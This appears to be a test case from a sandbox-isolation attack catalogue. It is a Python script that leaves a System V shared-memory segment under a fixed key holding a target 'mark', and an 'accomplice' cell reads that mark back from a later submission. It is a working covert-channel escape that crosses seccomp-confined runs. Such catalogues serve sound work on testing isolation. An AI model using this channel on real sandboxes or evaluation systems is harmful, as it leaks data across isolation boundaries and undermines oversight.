# /// attack
# catalogue = "leaking out: SysV memory"
# layers = ["seccomp"]
# aim = "left"
# ///
# Leaves shared memory with a key that the next submission knows.

# %%
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
number = libc.shmget(0x52544C46, 4096, 0o1666)
if number >= 0:
    ctypes.memmove(libc.shmat(number, None, 0), TARGET["mark"].encode(), len(TARGET["mark"]))

# %% accomplice
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
number = libc.shmget(0x52544C46, 0, 0)
print(number, ctypes.get_errno())
if number >= 0:
    print(ctypes.string_at(libc.shmat(number, None, 0), 100))
